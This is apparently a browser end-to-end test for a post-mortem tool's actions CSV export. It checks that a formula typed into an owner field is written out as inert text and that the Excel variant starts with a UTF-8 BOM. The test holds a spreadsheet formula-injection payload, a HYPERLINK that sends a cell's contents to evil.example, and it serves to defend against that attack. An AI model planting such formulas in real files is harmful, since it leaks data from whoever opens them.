// Exports safe to open, with real input: the File menu's actions CSV (plain and
// "CSV for Excel (UTF-8 BOM)") neutralises a formula typed into an owner.
import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, launchBrowser, openApp, closeApps } from './harness.mjs';

let server;
let browser;
before(async () => { server = await startServer(); browser = await launchBrowser(); });
afterEach(closeApps);
after(async () => { await browser?.close(); await server?.stop(); });

const checkoutTitle = 'Checkout outage: 5xx errors after config push';

async function downloadBytes(download) {
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  return Buffer.concat(chunks);
}

async function downloadFromMenu(app, item) {
  await app.click('File');
  const [download] = await Promise.all([app.page.waitForEvent('download'), app.click(item)]);
  return download;
}

test('actions CSV from the File menu: a typed formula is written as text, the Excel variant starts with a BOM', async () => {
  const app = await openApp(browser, server.url);
  await app.click('Open example');
  await app.click(checkoutTitle);
  await app.click('Actions');
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
  await app.fill('Action owner 1', formula);
  assert.equal((await app.document()).actions[0].owner, formula);

  const header = 'Summary,Assignee,Due date,Status,Link,Post-mortem,Kind,Notes\r\n';
  const firstRow = 'Validate checkout configs against a JSON schema in CI,' +
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",2026-02-01,Done,' +
    `https://git.example.com/shop/checkout/pull/2291,${checkoutTitle},Prevent recurrence,\r\n`;

  const plain = await downloadFromMenu(app, 'Download actions CSV');
  assert.equal(plain.suggestedFilename(), 'checkout-outage-5xx-errors-after-config-push-actions.csv');
  const plainBytes = await downloadBytes(plain);
  assert.ok(plainBytes.toString('utf8').startsWith(header + firstRow), plainBytes.toString('utf8').slice(0, 300));
  assert.equal(plainBytes.toString('utf8').split('\r\n').length, 6, 'header, four actions, final line end');

  await app.click('File');
  await app.screenshot('exports-file-menu');
  await app.press('Escape');
  const excel = await downloadFromMenu(app, 'CSV for Excel (UTF-8 BOM)');
  assert.equal(excel.suggestedFilename(), 'checkout-outage-5xx-errors-after-config-push-actions-excel.csv');
  const excelBytes = await downloadBytes(excel);
  assert.deepEqual([...excelBytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.ok(excelBytes.subarray(3).equals(plainBytes), 'the same CSV after the BOM');
  app.assertNoErrors();
});
